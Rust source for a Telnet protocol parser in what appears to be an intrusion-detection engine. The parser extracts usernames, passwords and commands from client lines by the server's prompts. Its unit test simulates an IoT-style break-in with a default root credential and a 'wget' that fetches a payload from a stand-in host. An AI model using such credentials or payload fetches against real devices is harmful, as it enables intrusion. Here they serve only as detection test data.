//! Telnet: each line that the client sends is a transaction; a name and a password are known by what was asked for.
//!
//! Key type: `TelnetParser`. RFC 854, RFC 855. Suricata only names telnet: the keywords are of our own.
use super::{
    FieldRow, Parser, Probe, ProtocolId, Record,
    lines::{self, Line, LineReader, Lines},
};
use crate::{
    flow::Direction,
    limits::TELNET_TAIL_BYTES,
    reused::emptied,
    transaction::{FieldId, Transaction, Transactions},
};
use Direction::{ToClient, ToServer};

const fn field(index: u8) -> FieldId {
    FieldId::new(ProtocolId::Telnet, index)
}
/// A name given at `login:`.
pub const USERNAME: FieldId = field(0);
/// What was given at `Password:`.
pub const PASSWORD: FieldId = field(1);
/// Any other line of the client.
pub const COMMAND: FieldId = field(2);

/// All fields.
pub static FIELDS: &[FieldRow] = &[
    FieldRow::new(ToServer, USERNAME, "telnet.username"),
    FieldRow::new(ToServer, PASSWORD, "telnet.password"),
    FieldRow::new(ToServer, COMMAND, "telnet.command"),
];

/// Interpret as command.
const IAC: u8 = 255;

/// A command about an option.
pub(super) fn probe(_direction: Direction, bytes: &[u8]) -> Probe {
    match bytes {
        [IAC, 250..=254, 0..=49, ..] => Probe::Yes,
        [] | [IAC] | [IAC, 250..=254] => Probe::More,
        _ => Probe::No,
    }
}

pub(super) fn parser() -> Box<dyn Parser> {
    Box::new(TelnetParser::default())
}

/// Where in a command one direction is.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum State {
    #[default]
    Text,
    Command,
    Option,
    Sub,
    SubCommand,
}

impl State {
    /// Whether the byte is text, and the next state.
    const fn step(self, byte: u8) -> (bool, State) {
        match (self, byte) {
            (State::Text, IAC) => (false, State::Command),
            (State::Text, 0) => (false, State::Text),
            (State::Text, _) => (true, State::Text),
            (State::Command, IAC) => (true, State::Text),
            (State::Command, 250) => (false, State::Sub),
            (State::Command, 251..=254) => (false, State::Option),
            (State::Command | State::Option, _) => (false, State::Text),
            (State::Sub, IAC) => (false, State::SubCommand),
            (State::SubCommand, 240) => (false, State::Text),
            (State::Sub | State::SubCommand, _) => (false, State::Sub),
        }
    }
}

#[derive(Default)]
struct TelnetParser {
    lines: [Lines; 2],
    states: [State; 2],
    /// what the server said last, without commands
    said: Vec<u8>,
    /// memory for the text of one piece
    text: Vec<u8>,
}

impl LineReader for TelnetParser {
    fn lines(&mut self, direction: Direction) -> &mut Lines {
        &mut self.lines[direction.index()]
    }
    fn is_over(&self) -> bool {
        false
    }
    fn line(&mut self, direction: Direction, line: &Line<'_>, transactions: &mut Transactions) {
        if direction == ToClient {
            return;
        }
        self.said.make_ascii_lowercase();
        let asked = self.said.trim_ascii_end();
        let id = match () {
            () if asked.ends_with(b"password:") || asked.ends_with(b"passwd:") => PASSWORD,
            () if asked.ends_with(b"login:")
                || asked.ends_with(b"username:")
                || asked.ends_with(b"user:") =>
            {
                USERNAME
            }
            () => COMMAND,
        };
        self.said.clear();
        if id == COMMAND && line.text.is_empty() {
            return;
        }
        let number = transactions.open(ProtocolId::Telnet);
        let Some(transaction) = transactions.get_mut(number) else { return };
        transaction.fields.set(id, line.text);
        transaction.complete_alone(ToServer);
    }
}

impl Parser for TelnetParser {
    fn feed(&mut self, direction: Direction, bytes: &[u8], transactions: &mut Transactions) -> usize {
        let mut text = emptied(core::mem::take(&mut self.text));
        for (place, byte) in bytes.iter().enumerate() {
            if transactions.is_full() && direction == ToServer && text.is_empty() {
                self.text = text;
                return place;
            }
            let (is_text, next) = self.states[direction.index()].step(*byte);
            self.states[direction.index()] = next;
            if !is_text {
                continue;
            }
            // A client may end its lines with a carriage return alone: RFC 854, "CR NUL".
            let end = matches!(byte, b'\r' | b'\n') && direction == ToServer;
            text.push(if end { b'\n' } else { *byte });
            if end {
                lines::feed(self, direction, &text, transactions);
                text.clear();
            }
        }
        match direction {
            ToServer => {
                lines::feed(self, direction, &text, transactions);
            }
            ToClient => {
                self.said.extend_from_slice(&text);
                let surplus = self.said.len().saturating_sub(TELNET_TAIL_BYTES);
                self.said.drain(..surplus);
            }
        }
        self.text = text;
        bytes.len()
    }
    fn gap(&mut self, direction: Direction, _count: u64, _transactions: &mut Transactions) {
        self.lines[direction.index()].clear();
        self.states[direction.index()] = State::Text;
    }
    fn end(&mut self, _direction: Direction, _transactions: &mut Transactions) {}
}

/// The `telnet` object of EVE.
pub fn log(transaction: &Transaction, record: &mut dyn Record) {
    for (key, id) in [("username", USERNAME), ("password", PASSWORD), ("command", COMMAND)] {
        if let Some(text) = transaction.fields.get(id) {
            record.text(key, text);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_typed_is_known_by_what_was_asked() {
        for size in [1, 4, 100] {
            let mut parser = TelnetParser::default();
            let mut transactions = Transactions::default();
            let mut say = |way, bytes: &[u8]| {
                bytes.chunks(size).for_each(|piece| {
                    parser.feed(way, piece, &mut transactions);
                });
            };
            say(ToClient, b"\xff\xfd\x01\xff\xfb\x03camera login: ");
            say(ToServer, b"\xff\xfa\x18\0xterm\xff\xf0\xff\xfc\x01root\r\0");
            say(ToClient, b"root\r\nPassword: ");
            say(ToServer, b"xc3511\r\n");
            say(ToClient, b"\r\n# ");
            say(ToServer, b"wget http://192.0.2.1/a\r\n");
            let get = |place: usize, id| transactions.iter().nth(place).unwrap().fields.get(id);
            assert_eq!(get(0, USERNAME), Some(&b"root"[..]));
            assert_eq!(get(1, PASSWORD), Some(&b"xc3511"[..]));
            assert_eq!(get(2, COMMAND), Some(&b"wget http://192.0.2.1/a"[..]));
            assert_eq!(transactions.opened(), 3);
        }
        assert_eq!(probe(ToClient, &[IAC, 253, 1]), Probe::Yes);
        assert_eq!(probe(ToClient, b"SSH-2.0"), Probe::No);
    }
}
